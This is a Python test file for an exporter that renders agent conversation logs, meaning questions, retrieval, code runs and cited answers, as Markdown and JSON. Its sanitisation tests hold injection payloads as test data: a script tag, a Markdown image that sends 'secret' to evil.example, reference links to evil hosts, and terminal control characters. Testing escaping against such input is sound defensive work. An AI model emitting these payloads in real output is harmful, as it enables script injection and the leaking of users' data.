"""A conversation as a document: all that matters is in it, and nothing that was written leaves its place."""

from __future__ import annotations

import json
import random
from dataclasses import replace
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agents import events as kinds
from agents.log.exporting import as_json, as_markdown
from agents.ports import ConversationInfo
from tests.agents.test_store import EVERY_KIND, numbered

INFO = ConversationInfo(id="c1", title="价格 of the *plan*", kb="k", team="qa", strategy="hybrid", created_at=86400.0)
ASKED = kinds.RunStarted(question="What does it cost?", team="qa", kb="k", strategy="hybrid")
CITATION = {"marker": 1, "chunk_id": "h", "source": "/a/b/价格.md", "page": 2, "quote": "高级套餐\n每月九十欧元。"}
PASSAGE = {"marker": 1, "chunk_id": "h", "source": "/a/b/价格.md", "page": 2}
RAN = kinds.CodeRan(
    agent="coder",
    call_id="c",
    code="print('```')\n",
    backend="bubblewrap",
    isolation="full",
    status="ok",
    exit_code=0,
    stdout="````\nout\n",
    stderr="",
    ms=1.0,
    artifacts=({"name": "plot-1.png", "media_type": "image/png", "bytes": 17356, "path": "/home/x/plot-1.png"},),
)


def message(content: str, agent: str = "assistant", role: Any = "assistant", **more: Any) -> kinds.MessageCompleted:
    return kinds.MessageCompleted(agent=agent, message_id=agent + content[:8], role=role, content=content, **more)


def answered(answer: str, **more: Any) -> kinds.RunCompleted:
    return kinds.RunCompleted(answer=answer, abstained=False, **more)


def markdown(*events: kinds.Event) -> str:
    return as_markdown(INFO, numbered(list(events)))


def test_a_whole_run_reads_in_its_order() -> None:
    support = (
        {"sentence": "It costs 90 euros [1].", "status": "supported"},
        {"sentence": "It is\nblue [1].", "status": "unsupported"},
        {"sentence": "So it is.", "status": "uncited"},
    )
    text = markdown(
        ASKED,
        kinds.TurnPlanned(kind="search", query="price of the plan"),
        kinds.Retrieved(agent="retriever", query="price of the plan", passages=(PASSAGE,)),
        message("[1] 价格.md", "retriever", "retriever"),
        message("A draft.", interrupted=True),
        RAN,
        message("{}", "coder", "tool"),
        kinds.Noted(kind="markers_removed", text="assistant cited [7], which was never given."),
        message("It costs 90 euros [1]. It is\nblue [1]."),
        message("APPROVED", "critic", "critic"),
        answered("It costs 90 euros [1]. It is\nblue [1].", citations=(CITATION,), support=support),
    )
    assert text == (
        "# 价格 of the \\*plan\\*\n\n"
        "- Date: 1970-01-02 00:00 UTC\n- Knowledge base: k\n- Team: qa\n- Strategy: hybrid\n\n"
        "## Question 1\n\n> What does it cost?\n\n"
        "### Discussion\n\n"
        "Searched for: price of the plan\n\n"
        "**retriever** found 1 passage for “price of the plan”.\n\n"
        "**assistant** (interrupted):\n\n> A draft.\n\n"
        "**coder** ran python (bubblewrap: ok):\n\n````python\nprint('```')\n````\n\n"
        "Output:\n\n`````text\n````\nout\n`````\n\n"
        "Files: plot-1.png (17,356 bytes)\n\n"
        "Note: assistant cited \\[7\\], which was never given.\n\n"
        "**critic**:\n\n> APPROVED\n\n"
        "### Answer\n\nIt costs 90 euros [1]. It is\nblue [1].\n\n"
        "Not supported by what it cites:\n\n- “It is blue \\[1\\].”\n\n"
        "### Sources\n\n- [1] 价格.md, page 2: “高级套餐 每月九十欧元。”\n"
    )


def test_every_question_is_a_chapter_and_says_how_it_ended() -> None:
    failed = kinds.Failed(error_type="ModelTimeout", message="It took too long.", hint="Try again.")
    text = markdown(ASKED, failed, ASKED, answered("Half an", stopped=True), ASKED)
    assert [line for line in text.splitlines() if line.startswith("## ")] == [f"## Question {n}" for n in (1, 2, 3)]
    assert "### Answer\n\nThere is none. It took too long. Try again.\n" in text
    assert "### Answer\n\nHalf an\n\nStopped here.\n" in text
    assert text.endswith("### Answer\n\nThere is none yet.\n")


def test_the_address_of_a_page_stays_whole() -> None:
    page = {**CITATION, "source": "https://example.org/a/b", "page": None}
    assert "- [1] https://example.org/a/b: “" in markdown(ASKED, answered("Yes [1].", citations=(page,)))


def test_code_in_an_answer_stays_as_it_is_and_headings_go_down() -> None:
    answer = "# Sources\n\nUse `<b>` so:\n\n1. Run\n   ```sh\n   # <b>\n   ls\n   ```\n\n```py\n# list[int]: <x>\n```"
    text = markdown(ASKED, answered(answer))
    assert text.endswith(f"### Answer\n\n#### Sources{answer[9:]}\n")


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("<script>alert(1)</script>", "\\<script>alert(1)\\</script>"),
        ("a < b and 三<四", "a < b and 三<四"),
        ("![x](http://evil.example/?q=secret)", "\\![x](http://evil.example/?q=secret)"),
        ("See [1].\n\n[1]: http://evil.example", "See [1].\n\n[1\\]: http://evil.example"),
        ("Sources\n===\n\nText", "Sources\n***\n\nText"),
        ("```python\nprint(1)", "```python\nprint(1)\n```"),
        ("- `x\n- <b> `", "- `x\n- \\<b> `"),
        ("```\na\n  ```\n<b>", "```\na\n  ```\n\\<b>"),
        ("a\x1b[2J\u202eb", "ab"),
    ],
)
def test_what_would_break_out_is_made_harmless(answer: str, shown: str) -> None:
    assert markdown(ASKED, answered(answer)).endswith(f"### Answer\n\n{shown}\n")


FRAGMENTS = (
    *("```", "~~~~", "``", "`", " ", "\n", "\n\n", "    ", "- ", "1. ", "> ", "# ", "===", "---", "|", "\n|---|---|\n"),
    *("<b>", "<script>x</script>", "<!-- ", "-->", "<div>", "<?x", "[1]: http://evil", "[a]:\n/x", "![x](http://evil)"),
    *("\\", "\\`", "文字", "x y", "[1]", "Title\n===", "<http://evil>", "\t", " `", "\r", "<a\nhref='x'>", "| a | b |"),
)


def everything(tokens: list[Token]) -> list[Token]:
    return [each for token in tokens for each in (token, *everything(token.children or []))]


def test_nothing_that_anybody_wrote_leaves_its_place() -> None:
    """Nasty texts in every place, read by a parser that allows HTML and tables."""
    reader, chance = MarkdownIt("commonmark", {"html": True}).enable("table"), random.Random(7)
    for _ in range(150):
        text = "".join(chance.choice(FRAGMENTS) for _ in range(chance.randint(1, 20)))
        citation = {**CITATION, "source": text, "quote": text}
        environment: dict[str, Any] = {}
        document = as_markdown(
            replace(INFO, title=text),
            [
                replace(ASKED, question=text),
                message(text + "?", agent=text),
                replace(RAN, code=text, stdout=text, artifacts=({"name": text, "bytes": 1},)),
                kinds.Noted(kind="loop", text=text),
                answered(text, citations=(citation,), support=({"sentence": text, "status": "unsupported"},)),
            ],
        )
        tokens = reader.parse(document, environment)
        headings = [(t.tag, tokens[at + 1].content) for at, t in enumerate(tokens) if t.type == "heading_open"]
        ours = [content for tag, content in headings if tag in ("h1", "h2", "h3")]
        assert ours[1:] == ["Question 1", "Discussion", "Answer", "Sources"], text
        found = {token.type for token in everything(tokens)} & {"html_block", "html_inline", "image"}
        assert not found, text
        assert not environment.get("references"), text


def test_json_has_everything_and_can_be_loaded() -> None:
    called = kinds.ModelCalled(
        agent="assistant", purpose="message", provider="p", model="m", messages=(), prompt_tokens=7, ms=500.0
    )
    events = numbered([*EVERY_KIND, called])
    document = json.loads(json.dumps(as_json(INFO, events)))
    assert ConversationInfo(**document["info"]) == INFO
    assert [kinds.from_json(json.dumps(event)) for event in document["events"]] == events
    assert document["usage"]["prompt_tokens"] == 7
    assert document["usage"]["agents"]["assistant"]["seconds"] == 0.5
